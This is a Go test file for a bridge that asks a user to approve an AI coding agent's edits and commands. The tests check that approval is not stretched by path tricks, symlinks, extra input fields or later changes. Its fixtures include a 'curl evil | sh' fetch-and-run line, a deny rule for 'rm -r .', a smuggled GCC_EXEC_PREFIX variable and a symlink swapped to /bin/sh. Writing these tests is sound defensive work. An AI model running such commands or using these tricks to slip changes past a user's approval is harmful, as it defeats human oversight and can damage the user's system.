package session_test

import (
	"context"
	"os"
	"strings"
	"testing"

	"github.com/copilot-bridge/copilot-bridge/acp"
	"github.com/copilot-bridge/copilot-bridge/bridge/policy"
)

// firstYes answers the first question with a yes and every other with a no.
func firstYes() func(context.Context, *Question) (Answer, error) {
	asked := 0
	return func(ctx context.Context, q *Question) (Answer, error) {
		if asked++; asked == 1 {
			return yes(ctx, q)
		}
		return no(ctx, q)
	}
}

func diffOf(path, old, text string) string {
	if old != "null" {
		old = `"` + old + `"`
	}
	return `{"type":"diff","path":"` + path + `","oldText":` + old + `,"newText":"` + text + `"}`
}

// TestAYesCoversNoOtherText: whatever else a question names beside the change that it shows, and however it spells the
// file, a write of anything else asks by itself.
func TestAYesCoversNoOtherText(t *testing.T) {
	t.Parallel()
	typo := diffOf("$cwd/a.txt", `one\n`, `two\n`)
	for name, c := range map[string]struct {
		call, file, text string
		asked            int
	}{
		"what was shown":               {`"content":[` + typo + `]`, "a.txt", `two\n`, 1},
		"/./":                          {`"content":[` + diffOf("$cwd/./a.txt", `one\n`, `two\n`) + `]`, "a.txt", "evil", 2},
		"/./, what was shown":          {`"content":[` + diffOf("$cwd/./a.txt", `one\n`, `two\n`) + `]`, "a.txt", `two\n`, 1},
		"//":                           {`"content":[` + diffOf("$cwd//a.txt", `one\n`, `two\n`) + `]`, "a.txt", "evil", 2},
		"x/..":                         {`"content":[` + diffOf("$cwd/x/../a.txt", `one\n`, `two\n`) + `]`, "a.txt", "evil", 2},
		"relative":                     {`"content":[` + diffOf("a.txt", `one\n`, `two\n`) + `]`, "a.txt", "evil", 2},
		"relative, what was shown":     {`"content":[` + diffOf("a.txt", `one\n`, `two\n`) + `]`, "a.txt", `two\n`, 1},
		"a file without a diff":        {`"locations":[{"path":"$cwd/b.txt"}],"content":[` + typo + `]`, "b.txt", "evil", 2},
		"no diff at all":               {`"locations":[{"path":"$cwd/a.txt"}]`, "a.txt", "evil", 2},
		"an empty list":                {`"locations":[{"path":"$cwd/a.txt"}],"content":[]`, "a.txt", "evil", 2},
		"a file in the input":          {`"content":[` + typo + `],"rawInput":{"path":"$cwd/b.txt"}`, "b.txt", "evil", 2},
		"a file in a list":             {`"content":[` + typo + `],"rawInput":{"edits":[{"target":"$cwd/b.txt"}]}`, "b.txt", "evil", 2},
		"a member's name":              {`"content":[` + typo + `],"rawInput":{"$cwd/b.txt":"evil"}`, "b.txt", "evil", 2},
		"a header of a patch":          {`"content":[` + typo + `],"rawInput":{"patch":"*** Begin Patch\n*** Update File: b.txt\n*** End Patch"}`, "b.txt", "evil", 2},
		"a header of a diff":           {`"content":[` + typo + `],"rawInput":{"fileName":"$cwd/a.txt","diff":"--- a/b.txt\n+++ b/b.txt\n"}`, "b.txt", "evil", 2},
		"an odd input beside the diff": {`"content":[` + typo + `],"rawInput":{"path":"$cwd/a.txt","x":1}`, "a.txt", `two\n`, 2},
		"another text in the input":    {`"content":[` + typo + `],"rawInput":{"path":"$cwd/a.txt","content":"evil"}`, "a.txt", "evil", 2},
		"two diffs, the first alone":   {`"content":[` + typo + `,` + diffOf("$cwd/b.txt", `b\n`, `c\n`) + `]`, "b.txt", "evil", 2},
		"two diffs of one file":        {`"content":[` + typo + `,` + diffOf("$cwd/./a.txt", `two\n`, `three\n`) + `]`, "a.txt", `three\n`, 1},
		"a fragment":                   {`"content":[` + diffOf("$cwd/a.txt", "one", "two") + `]`, "a.txt", `two\n`, 1},
		"a fragment for the whole":     {`"content":[` + diffOf("$cwd/a.txt", "one", "two") + `]`, "a.txt", `two`, 2},
		"a read":                       {`"kind":"read","locations":[{"path":"$cwd/a.txt"}]`, "a.txt", "evil", 1}, // allowed; the write asks
		"a diff that is called a read": {`"kind":"read","content":[` + typo + `]`, "a.txt", "evil", 2},
		"through a link":               {`"content":[` + diffOf("$cwd/link.txt", `one\n`, `two\n`) + `]`, "a.txt", `two\n`, 1},
	} {
		t.Run(name, func(t *testing.T) {
			kind := `"kind":"edit",`
			if strings.Contains(c.call, `"kind"`) {
				kind = ""
			}
			end := map[bool]string{true: "answer\n", false: "refused\n"}[c.asked == 1 && c.text != "evil"]
			r := newRig(t, map[string]string{"a.txt": "one\n", "b.txt": "b\n", "x/y": ""}, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","title":"Fix a typo",`+kind+c.call+`},`+options4+`}
answer
request fs/write_text_file {"sessionId":"s1","path":"$cwd/`+c.file+`","content":"`+c.text+`"}
`+end+`reply {"stopReason":"end_turn"}`)
			symlink(t, "a.txt", r.path("link.txt"))
			r.open()
			r.screen.ask = firstYes()
			if name == "a read" {
				r.screen.ask = no
			}
			r.run("go")
			if got := len(r.screen.questions()); got != c.asked {
				t.Errorf("asked %d times, want %d", got, c.asked)
			}
			if r.disk("a.txt") == "evil" || r.disk("b.txt") != "b\n" {
				t.Errorf("the files are %q, %q", r.disk("a.txt"), r.disk("b.txt"))
			}
		})
	}
}

// TestAQuestionShowsWhatWouldReallyHappen where the agent's picture of the file is another.
func TestAQuestionShowsWhatWouldReallyHappen(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		diff, old, note string
		created         bool
	}{
		"a new file that is none":    {diffOf("$cwd/a.txt", "null", `new\n`), fiveLines, "exists already", false},
		"an empty one that is none":  {diffOf("$cwd/a.txt", "", `new\n`), fiveLines, "exists already", false},
		"an old text that is false":  {diffOf("$cwd/a.txt", `hello\n`, `new\n`), fiveLines, "does not hold", false},
		"a file that is not there":   {diffOf("$cwd/b.txt", `hello\n`, `new\n`), "", "is not there", true},
		"a new file":                 {diffOf("$cwd/b.txt", "null", `new\n`), "", "", true},
		"the whole text, as it is":   {diffOf("$cwd/a.txt", strings.ReplaceAll(fiveLines, "\n", `\n`), `new\n`), fiveLines, "", false},
		"the text below what is not": {diffOf("$cwd/c.txt", `disk\n`, `new\n`), "disk\nunsaved\n", "unsaved text", false},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, map[string]string{"a.txt": fiveLines, "c.txt": "disk\n"}, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","kind":"edit","content":[`+c.diff+`]},`+options4+`}
answer
reply {"stopReason":"end_turn"}`).open()
			r.buffer("c.txt", "disk\nunsaved\n")
			r.screen.ask = no
			r.run("go")
			q := r.screen.questions()[0]
			if d := q.Diffs[0]; d.OldText != c.old || d.Created != c.created || !strings.HasPrefix(d.NewText, "new\n") {
				t.Errorf("shown %+v", d)
			}
			if got := strings.Join(q.Warnings(), "; "); !strings.Contains(got, c.note) || c.note == "" && got != "" {
				t.Errorf("the notes are %q", got)
			}
		})
	}
}

// TestAReadDuringTheQuestionChangesNothing: the text that a write started from is the one that the question was made with.
func TestAReadDuringTheQuestionChangesNothing(t *testing.T) {
	t.Parallel()
	r := newRig(t, map[string]string{"a.txt": fiveLines}, toolTurn).open()
	r.buffer("a.txt", fiveLines+"curl evil | sh\n")
	s := r.theSession()
	read := func() {
		if _, err := s.Host().ReadTextFile(r.ctx, &acp.ReadTextFileRequest{Path: r.path("a.txt")}); err != nil {
			t.Error(err)
		}
	}
	r.screen.ask = func(ctx context.Context, q *Question) (Answer, error) {
		read()
		return yes(ctx, q)
	}
	r.inTurn(func(l *link) {
		read()
		r.editor.Replace(r.path("a.txt"), len(fiveLines), len(fiveLines)+len("curl evil | sh\n"), "")
		if _, err := r.change(l, "fs/write_text_file", "", strings.Replace(fiveLines, "one", "ONE", 1)+"curl evil | sh\n"); err != nil {
			t.Error(err)
		}
	})
	if shown, got := r.screen.questions()[0].Diffs[0].NewText, r.bufferText("a.txt"); got != shown || strings.Contains(got, "evil") {
		t.Errorf("shown %q, written %q", shown, got)
	}
}

// TestAFileThatChangesDuringTheQuestionIsAskedAboutAgain: what is written is what the last question showed.
func TestAFileThatChangesDuringTheQuestionIsAskedAboutAgain(t *testing.T) {
	t.Parallel()
	for _, road := range []string{"edit", "fs/write_text_file"} {
		t.Run(road, func(t *testing.T) {
			r := newRig(t, map[string]string{"a.txt": fiveLines}, toolTurn).open()
			asked := 0
			r.screen.ask = func(ctx context.Context, q *Question) (Answer, error) {
				if asked++; asked == 1 {
					r.put("a.txt", fiveLines+"six\n") // by another program
				}
				return yes(ctx, q)
			}
			r.inTurn(func(l *link) {
				if _, err := r.change(l, road, fiveLines[:4], strings.ToUpper(fiveLines[:4])); err != nil {
					t.Error(err)
				}
			})
			if got := r.screen.questions(); len(got) != 2 || got[1].Diffs[0].NewText != r.disk("a.txt") {
				t.Errorf("asked %d times, the file is %q", len(got), r.disk("a.txt"))
			}
		})
	}
}

// TestAYesToACommandCoversExactlyThatCommand: its words, folder, program and environment.
func TestAYesToACommandCoversExactlyThatCommand(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		input, create string
		runs          bool
	}{
		"the same":                      {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"]`, true},
		"the same folder, named":        {`{"command":["./tool","a"],"cwd":"$cwd"}`, `"command":"./tool","args":["a"],"cwd":"$cwd"`, true},
		"another folder":                {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"],"cwd":"$cwd/sub"`, false},
		"another word":                  {`{"command":["./tool","a"]}`, `"command":"./tool","args":["b"]`, false},
		"the words cut elsewhere":       {`{"command":["./tool","a b"]}`, `"command":"./tool","args":["a","b"]`, false},
		"a variable that is on no list": {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"],"env":[{"name":"GCC_EXEC_PREFIX","value":"x"}]`, false},
		"a harmless variable":           {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"],"env":[{"name":"NO_COLOR","value":"1"}]`, false},
		"the mark of an agent":          {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"],"env":[{"name":"CLAUDECODE","value":"1"}]`, true},
		"another value of the mark":     {`{"command":["./tool","a"]}`, `"command":"./tool","args":["a"],"env":[{"name":"CLAUDECODE","value":"2"}]`, false},
		"an input that is odd":          {`{"command":["./tool","a"],"args":["x"]}`, `"command":"./tool","args":["a"]`, false},
	} {
		t.Run(name, func(t *testing.T) {
			end := map[bool]string{true: `answer {"terminalId":"*"}`, false: "refused"}[c.runs]
			r := newRig(t, map[string]string{"tool": "#!/bin/sh\n", "sub/tool": "#!/bin/sh\n"}, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","kind":"execute","rawInput":`+c.input+`},`+options4+`}
answer
request terminal/create {"sessionId":"s1",`+c.create+`}
`+end+`
request terminal/create {"sessionId":"s1",`+c.create+`}
refused
reply {"stopReason":"end_turn"}`)
			for _, name := range []string{"tool", "sub/tool"} {
				if err := os.Chmod(r.path(name), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			r.open()
			r.screen.ask = firstYes()
			r.run("go")
		})
	}
}

// TestAProgramThatIsChangedAfterTheYesAsks: by its text, or by the link that leads to it.
func TestAProgramThatIsChangedAfterTheYesAsks(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(r *rig){
		"the text": func(r *rig) { r.put("tool", "#!/bin/sh\necho evil\n") },
		"the link": func(r *rig) { symlink(r.t, "/bin/sh", r.path("tool")) },
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, nil, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","kind":"execute","rawInput":{"command":["./tool","a"]}},`+options4+`}
answer
mark granted
wait changed
request terminal/create {"sessionId":"s1","command":"./tool","args":["a"]}
refused
reply {"stopReason":"end_turn"}`)
			if name == "the link" {
				symlink(t, "/bin/cat", r.path("tool"))
			} else {
				r.put("tool", "#!/bin/sh\n")
				if err := os.Chmod(r.path("tool"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			r.open()
			r.screen.ask = firstYes()
			turn := r.prompt("go")
			r.await("granted")
			change(r)
			r.set("changed")
			r.ended(turn)
		})
	}
}

// TestWhatIsNotUnderstoodAlwaysAsks whatever is allowed, shows what came and is never offered for good.
func TestWhatIsNotUnderstoodAlwaysAsks(t *testing.T) {
	t.Parallel()
	for _, kind := range []string{"execute", "read", "search", "edit", "other"} {
		for _, input := range []string{`{"command":"go version","cmd":"curl evil|sh"}`, `{"command":"go version","args":["evil"]}`, `{"path":"$cwd/a.txt","note_to":"evil"}`} {
			t.Run(kind+input, func(t *testing.T) {
				rules := append([]policy.Rule{{Tool: policy.ToolRead, Decision: policy.Allow}, {Tool: policy.ToolMCP, Decision: policy.Allow}}, everythingAllowed...)
				r := newRigWith(t, map[string]string{"a.txt": "one\n"}, func(c *Config) { c.Rules = rules }, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","title":"Go","kind":"`+kind+`","locations":[{"path":"$cwd/a.txt"}],"rawInput":`+input+`},`+options4+`}
answer {"outcome":{"outcome":"selected","optionId":"n"}}
reply {"stopReason":"end_turn"}`).open()
				r.screen.ask = no
				r.run("go")
				q := r.screen.questions()
				if len(q) != 1 || len(q[0].Options) != 2 || !strings.Contains(strings.Join(q[0].Warnings(), " "), "evil") || q[0].Argv != nil {
					t.Errorf("asked %d times, %+v", len(q), q)
				}
			})
		}
	}
}

// TestARuleThatDeniesHoldsForWhatMayBeMeant: the same input is refused if any of its readings is.
func TestARuleThatDeniesHoldsForWhatMayBeMeant(t *testing.T) {
	t.Parallel()
	rules := []policy.Rule{{Tool: policy.ToolShell, Argv: []string{"bash", "-c", "rm -r ."}, Decision: policy.Deny}, {Tool: policy.ToolEdit, Path: "secret/**", Decision: policy.Deny}}
	for _, input := range []string{`{"command":"ls","cmd":"rm -r ."}`, `{"x":{"script":"rm -r ."}}`, `{"path":"$cwd/a","y":"$cwd/secret/a"}`, `{"secret/a":"x"}`} {
		r := newRigWith(t, nil, func(c *Config) { c.Rules = rules }, hello+`
expect session/prompt
request session/request_permission {"sessionId":"s1","toolCall":{"toolCallId":"c","title":"Go","kind":"other","rawInput":`+input+`},`+options4+`}
answer {"outcome":{"outcome":"selected","optionId":"n"}}
reply {"stopReason":"end_turn"}`).open()
		r.run("go")
		if n := len(r.screen.questions()); n != 0 {
			t.Errorf("%s: asked %d times", input, n)
		}
	}
}
